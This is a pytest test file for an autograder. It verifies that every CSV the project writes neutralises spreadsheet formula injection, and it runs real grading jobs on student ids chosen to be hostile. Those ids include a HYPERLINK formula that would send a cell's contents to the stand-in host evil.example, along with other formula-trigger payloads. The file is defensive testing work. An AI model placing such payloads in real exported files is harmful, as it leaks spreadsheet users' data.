"""Every CSV the project writes is safe to open in a spreadsheet: a text cell beginning with `=`,
`+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP), numbers stay numbers.

The writers are found by searching the package's source, so a new CSV writer that does not go
through autograder/views/spreadsheet.py fails here; each one is then fed hostile student ids for real
(a real autograde of a real nbgrader course, the class report, the tokens command)."""
from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import ROOT, make_submission

from autograder.views import spreadsheet

ASSIGNMENT = "ps1_derivatives"
BIN = Path(sys.executable).parent
HOSTILE = ['=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example?",A1),"open")',  # (no "/": a folder name)
           "@SUM(1+1)", "+1+2", "-3+4", "\tx=1", "\r=1+1"]


def env() -> dict:
    return dict(os.environ, PATH=f"{BIN}:{os.environ.get('PATH', '')}")


def evaluated(value: str) -> bool:
    """Whether a spreadsheet would take this cell for a formula."""
    return value.startswith(spreadsheet.TRIGGERS)


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_the_rule():
    assert spreadsheet.cell("=1+1") == "'=1+1" and spreadsheet.cell("-3+4") == "'-3+4"
    assert spreadsheet.cell("\r=1") == "'\r=1" and spreadsheet.cell("@A1") == "'@A1"
    assert spreadsheet.cell("alice") == "alice" and spreadsheet.cell("a=b") == "a=b"
    assert spreadsheet.cell(-1.5) == -1.5 and spreadsheet.cell(12) == 12, "numbers stay numbers"
    assert spreadsheet.cell(None) == "" and spreadsheet.cell(True) == "True"
    text = spreadsheet.rows_text(["id", "score"], [["=cmd", -2.5]])
    assert read_text(text) == [["id", "score"], ["'=cmd", "-2.5"]]


def read_text(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_csv_writer_goes_through_the_helper():
    """No module but the helper uses the csv module or joins cells with commas by hand; the
    modules that write the project's CSV files (grades.csv, the class report's, the tokens file)
    use the helper."""
    package = ROOT / "autograder"
    writers = set()
    for path in package.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(ROOT).as_posix()
        if path.name == "spreadsheet.py":
            continue
        assert not re.search(r"^\s*(import csv|from csv import)|\bcsv\.(writer|DictWriter)", text, re.MULTILINE), \
            f"{name} writes CSV without autograder/views/spreadsheet.py"
        if ".csv" in text:
            assert not re.search(r"[\"'],[\"']\.join", text), f"{name} joins CSV cells by hand"
        if re.search(r"\bspreadsheet\b", text):
            writers.add(name)
    assert {"autograder/records/batch.py", "autograder/views/class_report.py", "autograder/commands.py"} <= writers


@pytest.fixture(scope="module")
def hostile_course(tmp_path_factory):
    course = tmp_path_factory.mktemp("csv") / "course"
    course.mkdir()
    for name in ("source", "release"):
        shutil.copytree(ROOT / name / ASSIGNMENT, course / name / ASSIGNMENT)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    for student in HOSTILE:
        make_submission(ASSIGNMENT, course / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    done = subprocess.run([sys.executable, "-m", "autograder", "autograde", ASSIGNMENT, "--no-progress"],
                          cwd=course, env=env(), capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    return course


def test_grades_csv_and_the_class_report(hostile_course):
    files = [hostile_course / "grades.csv", *sorted((hostile_course / "reports" / ASSIGNMENT).glob("*.csv"))]
    assert len(files) == 7   # grades.csv and the class report's five, integrity.csv
    seen_ids = set()
    for path in files:
        rows = read(path)
        for row in rows:
            for value in row:
                assert not evaluated(value), f"{path.name}: {value!r} would be evaluated"
        seen_ids |= {value for row in rows for value in row}
    for student in HOSTILE:
        assert "'" + student in seen_ids, f"{student!r} is not in the CSV files, neutralised"
    with (hostile_course / "grades.csv").open(encoding="utf-8", newline="") as handle:
        grades = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert set(grades) == {"'" + s for s in HOSTILE}
    for row in grades.values():   # numbers stay numbers
        assert row["score"] == row["max_score"] == "12"
    submissions = read(hostile_course / "reports" / ASSIGNMENT / "submissions.csv")
    assert all(float(row[2]) == 12 for row in submissions[1:])


def test_the_tokens_file(tmp_path):
    from nbgrader.api import Gradebook

    course = tmp_path / "course"
    course.mkdir()
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in HOSTILE:
            gb.update_or_create_student(student)
    target = tmp_path / "tokens.csv"
    done = subprocess.run([str(BIN / "autograder"), "tokens", "--course", str(course), "--output", str(target)],
                          capture_output=True, text=True, env=env(), timeout=120)
    assert done.returncode == 0, done.stderr
    rows = read(target)
    assert rows[0] == ["student", "token"] and {r[0] for r in rows[1:]} == {"'" + s for s in HOSTILE}
    assert not any(evaluated(value) for row in rows for value in row)
